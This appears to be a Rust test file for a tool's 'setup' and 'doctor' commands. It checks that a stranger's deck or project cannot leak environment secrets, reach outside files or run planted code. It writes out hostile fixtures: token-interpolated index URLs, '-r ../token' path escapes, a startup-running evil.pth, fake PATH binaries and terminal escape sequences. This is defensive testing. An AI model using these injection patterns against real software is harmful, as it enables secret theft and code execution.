//! What a stranger's deck or project can make `setup` and `doctor` do: send something out, or run something, before
//! anybody was asked. The uv of these tests writes down what it is given; the index counts who asks.
#![cfg(target_os = "linux")]

use std::fs;
use std::process::Command;

use crate::support::place::{Index, Place, locked, said, says, script};
use crate::support::terminal::Terminal;
use greenroom_python::Lock;
use greenroom_system::disk::DiskFiles;

const LOCK: &str = "deck/demos/locks/requirements.txt";

#[test]
fn h1_a_token_of_the_environment_is_never_sent_to_an_index_that_a_deck_names() {
    let Some(place) = Place::open() else { return };
    let index = Index::open();
    for line in [
        format!("--index-url http://{}/${{MY_SECRET_TOKEN}}/simple", index.address),
        format!("--extra-index-url http://{}/${{MY_SECRET_TOKEN}}/simple", index.address),
        format!("evil @ http://{}/evil-1.0-py3-none-any.whl", index.address),
        format!("--find-links http://{}/${{MY_SECRET_TOKEN}}", index.address),
        "-r ../token".to_owned(),
    ] {
        fs::write(place.at("token"), "ghp-s3crettoken\n").unwrap();
        fs::write(place.at(LOCK), format!("{}{line}\n", locked("django==6.1.3"))).unwrap();
        let output = place.setup().env("MY_SECRET_TOKEN", "hunter2-s3cret").output().unwrap();
        says(&output, 1, &["demos/locks/requirements.txt:2:1", "nothing was installed", "= help: "]);
        let text = said(&output);
        assert!(!text.contains("hunter2") && !text.contains("ghp-"), "{text}");
    }
    assert_eq!((index.requests(), place.log()), (Vec::new(), Vec::new()));
    // The stage and doctor read no more of it.
    says(&place.doctor().output().unwrap(), 1, &["BROKEN", "lock file", "requirements.txt:2:1"]);
}

#[test]
fn h1_uv_is_told_nothing_of_the_environment_but_what_is_on_the_list() {
    let Some(place) = Place::open() else { return };
    place.uv(
        "env > \"$(dirname \"$0\")/env\"; cp \"$last\" \"$(dirname \"$0\")/lock\"; stat -c %a \"$last\" \
              \"$(dirname \"$last\")\" > \"$(dirname \"$0\")/modes\"; pwd > \"$(dirname \"$0\")/cwd\"",
    );
    fs::write(place.at(LOCK), format!("# https://x/${{HOME}}\n{}", locked("django==6.1.3"))).unwrap();
    fs::write(place.at("deck/uv.toml"), "index-url = \"http://127.0.0.1:9/evil\"\n").unwrap();
    let mut setup = place.setup();
    setup.env("MY_SECRET_TOKEN", "hunter2").env("PYTHONPATH", "/x").env("UV_CONFIG_FILE", "/x/uv.toml");
    setup.env("PIP_INDEX_URL", "https://me:pass@example.org/simple").env("UV_OVERRIDE", "/x");
    let output = setup.env("https_proxy", "http://proxy:1").env("UV_PYTHON", "/x").output().unwrap();
    says(&output, 0, &["from     https://***@example.org/simple", "  django==6.1.3", "1 package:"]);
    let told = fs::read_to_string(place.at("bin/env")).unwrap();
    for name in ["MY_SECRET_TOKEN", "PYTHONPATH", "UV_CONFIG_FILE", "UV_OVERRIDE", "UV_PYTHON=", "GREENROOM"]
    {
        assert!(!told.contains(name), "{name} in\n{told}");
    }
    for line in [
        "UV_DEFAULT_INDEX=https://me:pass@example.org/simple",
        "https_proxy=http://proxy:1",
        "UV_NO_CONFIG=1",
    ] {
        assert!(told.lines().any(|other| other == line), "no {line} in\n{told}");
    }
    let calls = place.log();
    assert!(calls[1].contains("--require-hashes") && calls[1].contains("--no-build"), "{calls:?}");
    let lock = fs::read_to_string(place.at("bin/lock")).unwrap();
    assert_eq!(lock, format!("django==6.1.3 \\\n    --hash=sha256:{}\n", "0".repeat(64)));
    assert_eq!(fs::read_to_string(place.at("bin/modes")).unwrap(), "600\n700\n");
    assert!(!fs::read_to_string(place.at("bin/cwd")).unwrap().contains("deck"));
}

#[test]
fn h1_nothing_is_fetched_or_made_before_somebody_agreed() {
    let Some(place) = Place::open() else { return };
    let mut unasked = place.greenroom();
    unasked.args(["setup", "deck", "--python"]).arg(&place.gil).arg("--python-ft").arg(&place.free_threaded);
    let words =
        ["asks for 1 package:", "  django==6.1.3", "from     https://pypi.org/simple", "to  ", "--yes"];
    says(&unasked.output().unwrap(), 2, &words);
    assert_eq!((place.log(), place.at(".cache").exists()), (Vec::new(), false));
    // An agreement holds for what was agreed to.
    let digest = Lock::of(&DiskFiles::new(&place.at("deck")).unwrap()).unwrap().digest();
    fs::write(place.at(LOCK), locked("evil==1")).unwrap();
    unasked.args(["--agreed", &digest]);
    says(&unasked.output().unwrap(), 2, &["not the one that was agreed to"]);
    assert_eq!(place.log(), Vec::<String>::new());
    fs::write(place.at(LOCK), locked("django==6.1.3")).unwrap();
    says(&unasked.output().unwrap(), 0, &["Ready"]);
    assert_eq!(place.ready(), 2);
}

#[test]
fn h1_a_person_is_asked_and_a_failure_is_one_line_for_the_room() {
    let Some(place) = Place::open() else { return };
    let Some(terminal) = Terminal::open("setup-asks") else { return };
    place.uv("echo 'error: a stack' >&2; echo '  of a resolver' >&2; exit 1");
    let line = format!(
        "cd {} && HOME=$PWD PATH=$PWD/bin:/usr/bin:/bin env -u XDG_CACHE_HOME {} setup deck --python {} --python-ft {}",
        place.at("").display(),
        env!("CARGO_BIN_EXE_greenroom"),
        place.gil.display(),
        place.free_threaded.display()
    );
    terminal.run(&line);
    terminal.shows("Go on? [y/N]");
    terminal.keys(&["Enter"]);
    terminal.shows("Nothing was installed.");
    assert_eq!((place.log(), place.at(".cache").exists()), (Vec::new(), false));
    terminal.run("clear");
    terminal.run(&line);
    terminal.shows("Go on? [y/N]");
    terminal.run("y");
    terminal.shows("What was said is in");
    let text = terminal.text();
    assert!(text.contains("✗ GIL: installing packages") && !text.contains("resolver"), "{text}");
    let log = fs::read_to_string(place.at(".cache/greenroom/setup.log")).unwrap();
    assert!(log.contains("of a resolver"), "{log}");
}

#[test]
fn h1_doctor_runs_nothing_that_an_environment_or_a_deck_leaves_for_the_start_of_python() {
    let Some(place) = Place::open() else { return };
    let ran = place.at("ran");
    let touch = format!("open({:?}, 'a').write('x')", ran.to_str().unwrap());
    // What a wheel with evil.pth leaves in an environment, and a sitecustomize beside it.
    place.uv(&format!(
        "for lib in python3.14 python3.14t; do site=\"${{5%/bin/python}}/lib/$lib/site-packages\"; mkdir -p \
         \"$site/django-6.1.3.dist-info\"; printf 'import os; %s\\n' {touch:?} > \"$site/evil.pth\"; cp \"$site/evil.pth\" \
         \"$site/sitecustomize.py\"; printf 'Name: Django\\nVersion: 6.1.3\\n\\nx' > \
         \"$site/django-6.1.3.dist-info/METADATA\"; done"
    ));
    says(&place.setup().output().unwrap(), 0, &["Ready"]);
    // And what a deck could have in its folder for whoever stands in it.
    for name in
        ["python3", "python3.14", "python", "uv", "oha", "psql", "sitecustomize.py", "usercustomize.py"]
    {
        fs::create_dir_all(place.at("deck/bin")).unwrap();
        script(&place.at("deck/bin").join(name), &format!("echo x >> {}", ran.display()));
        fs::copy(place.at("deck/bin").join(name), place.at("deck").join(name)).unwrap();
    }
    fs::write(place.at("deck/sitecustomize.py"), format!("{touch}\n")).unwrap();
    fs::write(place.at("deck/.python-version"), "../../bin\n").unwrap();
    for path in ["bin:.:", "PLACE/deck/bin:", ""] {
        let mut doctor = place.doctor();
        let path = path.replace("PLACE", place.at("").to_str().unwrap().trim_end_matches('/'));
        doctor.env("PATH", format!("{path}{}:/usr/bin:/bin", place.at("bin").display()));
        doctor.env("PYTHONPATH", place.at("deck")).current_dir(place.at("deck"));
        let output = doctor.output().unwrap();
        says(&output, 0, &["django 6.1.3", "ready"]);
        assert!(!ran.exists(), "PATH={path}: {}", said(&output));
    }
    // The same environment does run it when it is used, so that the trap is a real one.
    let python = place.environments()[0].join("bin/python");
    Command::new(python).args(["-I", "-c", "1"]).output().unwrap();
    assert!(ran.exists(), "evil.pth is none");
}

#[test]
fn stage_14_doctor_speaks_of_what_the_deck_uses_and_of_nothing_else() {
    let Some(place) = Place::open() else { return };
    fs::remove_file(place.at(LOCK)).unwrap();
    let outline = "title: T\nsections: [{title: S, file: s.md}]\ndemos:\n  hello: {command: [sh, -c, 'echo'], tape: good.cast}\n  \
                   gone: {command: [no-such-program], tape: none.cast}\n  bad: {command: [./here], tape: bad.cast}\n";
    fs::write(place.at("deck/talk.yaml"), outline).unwrap();
    fs::write(place.at("deck/here"), "x").unwrap();
    let cast = "{\"version\":2,\"width\":80,\"height\":24,\"timestamp\":1763856000}\n[0.1,\"o\",\"hi\"]\n";
    fs::write(place.at("deck/good.cast"), cast).unwrap();
    fs::write(place.at("deck/bad.cast"), "not a tape").unwrap();
    let output = place.doctor().env("DATABASE_URL", "postgres://me@db/x").output().unwrap();
    let expected = [
        "✓ ready    hello   sh (/",
        "✗ missing  gone    no-such-program is not in PATH",
        "✗ missing  bad     ./here may not be run",
        "✓ ready    hello   good.cast plays, from 2025-11-23",
        "✗ missing  gone    none.cast is not there",
        "→ greenroom record gone /",
        "✗ BROKEN   bad     bad.cast does not play",
    ];
    let text = said(&output).lines().map(|line| line.trim().to_owned() + "\n").collect::<String>();
    for line in expected {
        let squeezed = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(squeezed(&text).contains(&squeezed(line)), "no {line:?} in\n{text}");
    }
    for word in ["Python", "PostgreSQL", "DATABASE_URL", "Interpreters", "Environments", "oha", "uv "] {
        assert!(!text.contains(word), "{word} in\n{text}");
    }
    assert_eq!(output.status.code(), Some(1), "{text}");
    // A deck that does use them hears of them.
    let outline = outline
        .replace("hello: {", "hello: {runtime: gil, ")
        .replace("gone: {", "gone: {kind: probe, database: postgresql, ");
    fs::write(place.at("deck/talk.yaml"), outline).unwrap();
    let text = said(&place.doctor().output().unwrap());
    for word in ["Interpreters", "Environments", "PostgreSQL", "not prepared"] {
        assert!(text.contains(word), "no {word} in\n{text}");
    }
    assert!(!text.contains("free threaded") && !text.contains("oha"), "{text}");
}

#[test]
fn h5_a_project_is_shown_plainly_before_anybody_is_asked() {
    let Some(place) = Place::open() else { return };
    let index = Index::open();
    let project = place.at("project");
    fs::create_dir_all(project.join("more")).unwrap();
    fs::write(place.at("token"), "ghp-s3crettokenoftheuser\n").unwrap();
    std::os::unix::fs::symlink(place.at("token"), project.join("link.txt")).unwrap();
    std::os::unix::fs::symlink(place.at(""), project.join("up")).unwrap();
    fs::write(project.join("more/base.txt"), "asgiref==3.13.0\n-r ../../token\n").unwrap();
    let list = format!(
        "--index-url http://{}/${{MY_SECRET_TOKEN}}/simple\ndjango>=6\n-r more/base.txt\n-r ../token\n-r {}\n-r link.txt\n\
         -r up/token\n-c ../token\nodd\x1b]52;c;eA==\x07name\nevil @ http://{}/evil.whl\nghp_TOKEN=abc\n${{MY_SECRET_TOKEN}}\n\
         turn\u{202e}ed\n",
        index.address,
        place.at("token").display(),
        index.address
    );
    fs::write(project.join("requirements.txt"), list).unwrap();
    let mut doctor = place.greenroom();
    doctor.args(["doctor", "--project", "project", "--python-ft"]).arg(&place.free_threaded);
    doctor.env("MY_SECRET_TOKEN", "hunter2").env("UV_DEFAULT_INDEX", format!("http://{}/own", index.address));
    let output = doctor.output().unwrap();
    let text = said(&output);
    says(
        &output,
        2,
        &["  django>=6", "  asgiref==3.13.0", "/own", "--yes", "requirements.txt:4", "leads out of"],
    );
    assert!(!text.contains("ghp-") && !text.contains("hunter2"), "{text}");
    assert!(!text.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'), "{text:?}");
    assert_eq!((index.requests(), place.log()), (Vec::new(), Vec::new()));
    // What is agreed to is what was shown: the lines that were left out are not asked for.
    place.uv(
        "cat \"$last\" >> \"$(dirname \"$0\")/asked\"; for word; do case $word in *in.txt) cat \"$word\" >> \
              \"$(dirname \"$0\")/asked\";; esac; done; exit 1",
    );
    says(&doctor.arg("--yes").output().unwrap(), 1, &[]);
    let asked = fs::read_to_string(place.at("bin/asked")).unwrap();
    for line in asked.lines() {
        assert!(["django>=6", "asgiref==3.13.0"].contains(&line), "{line} in\n{asked}");
    }
    assert_eq!(index.requests(), Vec::<String>::new());
}
